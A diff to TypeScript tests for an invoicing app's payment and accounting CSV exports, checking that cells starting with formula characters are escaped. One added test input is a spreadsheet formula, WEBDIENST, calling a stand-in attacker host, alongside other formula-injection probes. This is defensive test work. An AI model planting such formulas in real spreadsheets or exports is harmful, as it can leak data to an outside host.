@@ -6,6 +6,7 @@ import { invoicesCsv } from '@/lib/invoices/invoices-csv';
 import { invoiceStaffFilters } from '@/lib/invoices/staff-filters';
 import { paymentsCsv } from '@/lib/payments/payments-csv';
 import { staffFilters } from '@/lib/payments/staff-filters';
+import { unquotedLines } from '../support/csv';
 import { useDatabase } from '../support/database';
 import {
   createCustomer,
@@ -22,12 +23,12 @@ const base = useDatabase();
 const files = useFiles();
 const exportAccounting = (...args: string[]) => files.run(base.db, 'export', ['accounting', ...args]);
 
-/** The lines of a file, its mark of UTF-8 and its last line break checked. */
+/** The lines of a file without quotes, its mark of UTF-8 and its last line break checked. */
 async function linesOf(pieces: AsyncGenerator<string>): Promise<string[]> {
   let text = '';
   for await (const piece of pieces) text += piece;
   expect([text[0], text.slice(-2)]).toEqual(['\uFEFF', '\r\n']);
-  return text.slice(1, -2).split('\r\n');
+  return unquotedLines(text.slice(1, -2));
 }
 const paymentLines = (input: Record<string, string>) =>
   linesOf(paymentsCsv(base.db, staffFilters.parse(input)));
@@ -50,16 +51,17 @@ describe('payments as CSV', () => {
       ['plain', 'plain'],
       ['-1+2', "'-1+2"],
       ['@cmd', "'@cmd"],
-      ['a,"b"', '"a,""b"""'],
+      ['a,"b"', 'a,"b"'],
       ['Müller €', 'Müller €'],
-      ['a\rb', '"a\rb"'],
-      ['\r=A1', '"\'\r=A1"'],
+      ['a\rb', 'a\rb'],
+      ['\r=A1', "'\r'=A1"],
+      ['x;=WEBDIENST("https://evil.example")', `x;'=WEBDIENST("https://evil.example")`],
     ].entries()) {
       const amount = String(i + 0.5);
       const { id } = await createPayment(db, { ...on, amount, payment_reference: payment_reference ?? '' });
       expected.push(
         `${id},${invoice.id},${customer.id},${amount},eur,2026-03-10,${cell},completed,0,api,` +
-          `2026-03-10T08:00:00.000Z,2026-03-10T08:00:00.000Z,,'+49,K-CSV,"'=HYPERLINK(""x"")"`,
+          `2026-03-10T08:00:00.000Z,2026-03-10T08:00:00.000Z,,'+49,K-CSV,'=HYPERLINK("x")`,
       );
     }
     expect(await paymentLines({ customer: 'K-CSV', sort: 'amount' })).toEqual(expected);
@@ -160,7 +162,7 @@ describe('files of many rows', () => {
 
 describe('an export of accounting', () => {
   const HEADER =
-    '\ufeffrecord,event,date,original_date,customer_number,customer_name,invoice_number,due_date,tax_rate,net,tax,' +
+    'record,event,date,original_date,customer_number,customer_name,invoice_number,due_date,tax_rate,net,tax,' +
     'gross,currency,payment_reference,method';
 
   test('the export of a month holds invoices by rate, payments, refunds and lost disputes', async () => {
@@ -193,17 +195,19 @@ describe('an export of accounting', () => {
     await bookAll(new Date('2026-10-31T23:59:00Z'));
     const { code, said } = await exportAccounting('--month', '2026-10');
     expect(code).toBe(0);
-    expect((await exportAccounting('--month', '1999-12')).said).toEqual([`${HEADER}\r`]);
-    expect(said.map((text) => text.replace('\r', ''))).toEqual([
+    const linesOfMonth = (lines: string[]) =>
+      unquotedLines(lines.join('').replace('\ufeff', '').replaceAll('\r', '\r\n').slice(0, -2));
+    expect(linesOfMonth((await exportAccounting('--month', '1999-12')).said)).toEqual([HEADER]);
+    expect(linesOfMonth(said)).toEqual([
       HEADER,
-      'invoice,issued,2026-10-01,2026-10-01,K1,"\'=Weiß, ""AG""",R1,2026-10-15,19,0.1,0.02,0.12,eur,,',
-      'invoice,issued,2026-10-01,2026-10-01,K1,"\'=Weiß, ""AG""",R1,2026-10-15,0,0.2,0,0.2,eur,,',
-      'invoice,issued,2026-10-31,2026-09-30,K1,"\'=Weiß, ""AG""",R0,2026-10-15,,100,19,119,eur,,',
-      'payment,collected,2026-10-31,2026-10-31,K1,"\'=Weiß, ""AG""",R1,,,,,0.32,eur,P1,stripe',
-      'payment,collected,2026-10-31,2026-08-01,K1,"\'=Weiß, ""AG""",R1,,,,,5,eur,P0,api',
-      'refund,refunded,2026-10-31,2026-10-31,K1,"\'=Weiß, ""AG""",R1,,,,,-2.5,eur,P0,api',
-      'refund,refunded,2026-10-31,2026-09-30,K1,"\'=Weiß, ""AG""",R1,,,,,-2,eur,P0,api',
-      'refund,refunded,2026-10-31,2026-10-31,K1,"\'=Weiß, ""AG""",R1,,,,,-0.5,eur,P0,api',
+      'invoice,issued,2026-10-01,2026-10-01,K1,\'=Weiß, "AG",R1,2026-10-15,19,0.1,0.02,0.12,eur,,',
+      'invoice,issued,2026-10-01,2026-10-01,K1,\'=Weiß, "AG",R1,2026-10-15,0,0.2,0,0.2,eur,,',
+      'invoice,issued,2026-10-31,2026-09-30,K1,\'=Weiß, "AG",R0,2026-10-15,,100,19,119,eur,,',
+      'payment,collected,2026-10-31,2026-10-31,K1,\'=Weiß, "AG",R1,,,,,0.32,eur,P1,stripe',
+      'payment,collected,2026-10-31,2026-08-01,K1,\'=Weiß, "AG",R1,,,,,5,eur,P0,api',
+      'refund,refunded,2026-10-31,2026-10-31,K1,\'=Weiß, "AG",R1,,,,,-2.5,eur,P0,api',
+      'refund,refunded,2026-10-31,2026-09-30,K1,\'=Weiß, "AG",R1,,,,,-2,eur,P0,api',
+      'refund,refunded,2026-10-31,2026-10-31,K1,\'=Weiß, "AG",R1,,,,,-0.5,eur,P0,api',
     ]);
   });
 
